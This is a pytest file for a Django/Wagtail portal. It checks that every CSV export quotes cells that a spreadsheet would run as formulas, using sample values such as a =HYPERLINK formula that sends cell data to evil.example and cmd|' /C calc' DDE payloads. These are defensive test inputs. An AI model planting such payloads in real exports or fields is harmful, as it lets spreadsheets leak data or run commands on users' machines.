"""CSV formula injection: every CSV the portal writes neutralises cells a spreadsheet would run."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from wagtail.admin.viewsets import viewsets as admin_viewsets

from portal import actions, audit
from portal.csv_export import SafeExportIndexView, neutralise
from portal.models import AuditEvent
from portal.wagtail_hooks import AuditEventViewSet, OrganisationViewSet
from tests.factories import OrganisationFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("- refund", "'- refund"),
        # plain numbers stay numbers: negative deltas, signed and exponent forms
        ("-12.5", "-12.5"),
        ("-500", "-500"),
        ("+3", "+3"),
        ("-1e-5", "-1e-5"),
        ("-.5", "-.5"),
        # text that does not start a formula is untouched
        ("a=b", "a=b"),
        ("", ""),
        ("Test funding", "Test funding"),
        # values that are not text are untouched
        (-500, -500),
        (Decimal("-0.5"), Decimal("-0.5")),
        (None, None),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_quoted(cell, written):
    assert neutralise(cell) == written


def test_no_module_writes_csv_but_the_shared_writer():
    # given every Python module of the apps
    root = Path(settings.BASE_DIR)
    modules = [
        path
        for app in ("portal", "carbon", "community", "beta_program")
        for path in (root / app).rglob("*.py")
    ]
    # when looking for CSV writers other than portal/csv_export.py
    writers = [
        str(path.relative_to(root))
        for path in modules
        if ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    # then there is only the shared one
    assert writers == ["portal/csv_export.py"]


def test_every_admin_export_uses_the_safe_listing():
    # given the Wagtail viewsets that offer a spreadsheet export (registered with the URLs)
    reverse("wagtailadmin_home")
    exporting = [
        vs
        for vs in admin_viewsets.viewsets
        if isinstance(getattr(vs, "list_export", None), list | tuple) and vs.list_export
    ]
    # then each lists through the view that neutralises CSV cells
    assert sorted(vs.model._meta.label for vs in exporting) == [
        "beta_program.Feedback",
        "carbon.EmissionFactor",
        "carbon.Product",
        "portal.AuditEvent",
        "portal.Organisation",
        "portal.OutboxEvent",
    ]
    assert all(issubclass(vs.index_view_class, SafeExportIndexView) for vs in exporting)


# --- the audit trail


@pytest.mark.django_db
def test_a_rejected_tokens_user_agent_is_quoted_in_the_customer_export(
    client, org_a, admin_a, frozen_minute
):
    # given a wrong secret sent for Acme's token with a formula as its User-Agent
    token, plaintext = actions.issue_api_token(org_a, "ERP", ["account:read"], by=None)
    forged = plaintext[:-4] + ("aaaa" if not plaintext.endswith("aaaa") else "bbbb")
    client.get("/api/v1/me", HTTP_AUTHORIZATION=f"Bearer {forged}", HTTP_USER_AGENT=HYPERLINK)
    rejected = AuditEvent.objects.get(action="api_token.rejected")
    # when Acme's admin downloads the trail
    client.force_login(admin_a)
    response = client.get(
        reverse("portal:audit_log", kwargs={"org_slug": org_a.slug}), {"format": "csv"}
    )
    body = b"".join(response.streaming_content)
    # then the User-Agent cell starts with a quote, so no spreadsheet runs it
    expected = (
        f"{rejected.occurred_at},,api_token.rejected,portal.apitoken,{token.pk},{token},"
        f'127.0.0.1,"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",'
        f'"{{""minute"": ""2026-03-02T10:10Z"", ""principal"": ""token:{token.lookup}"", '
        f'""reason"": ""wrong_secret""}}"\r\n'
    ).encode()
    assert expected in body
    assert b",=HYPERLINK" not in body
    assert b'"=HYPERLINK' not in body


@pytest.mark.django_db
def test_staff_audit_export_quotes_formulas(client, staff_success, org_a):
    # given an event whose user agent, object and actor label look like formulas
    audit.record("api_token.rejected", organisation=org_a, details={"reason": "-1"})
    AuditEvent.objects.create(
        action="auth.login_failed",
        actor_label="@evil",
        user_agent="+1+2",
        object_repr="-12.5",
        organisation=org_a,
    )
    client.force_login(staff_success)
    # when staff export the trail from the Wagtail admin
    url = reverse(AuditEventViewSet().get_url_name("index"))
    body = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode()
    # then the formula-looking cells are quoted, the plain number is kept
    lines = body.splitlines()
    assert lines[0] == (
        "Time,Actor,Organisation,Action,Object type,Object id,Object,IP address,User agent,Details"
    )
    event = AuditEvent.objects.get(action="auth.login_failed")
    assert lines[1] == (
        f"{event.occurred_at},'@evil,Acme Solar,auth.login_failed,,,-12.5,,'+1+2,{{}}"
    )


@pytest.mark.django_db
def test_staff_organisation_export_quotes_formulas(client, staff_success):
    # given an organisation whose name and CRM id look like formulas
    org = OrganisationFactory(name="=cmd|'/C calc'!A0", slug="calc", crm_external_id="@A1")
    client.force_login(staff_success)
    # when staff export the organisations
    url = reverse(OrganisationViewSet().get_url_name("index"))
    body = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode()
    # then
    assert f"'=cmd|'/C calc'!A0,calc,{org.tier},{org.country},'@A1,{org.created_at}" in (
        body.splitlines()
    )
